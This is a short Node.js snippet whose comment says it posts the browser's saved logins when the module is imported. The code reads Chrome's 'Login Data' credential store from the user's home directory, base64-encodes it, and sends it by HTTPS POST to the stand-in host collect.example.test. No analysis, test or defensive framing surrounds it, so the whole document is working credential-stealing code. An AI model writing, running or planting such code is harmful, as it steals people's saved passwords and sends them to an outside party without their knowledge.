// The browser's saved logins are posted; runs: import
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const store = path.join(os.homedir(), "AppData", "Local", "Google", "Chrome", "User Data", "Default", "Login Data");
fs.readFile(store, (error, data) => {
  if (!error) {
    const request = https.request({ hostname: "collect.example.test", path: "/logins", method: "POST" });
    request.write(data.toString("base64"));
    request.end();
  }
});
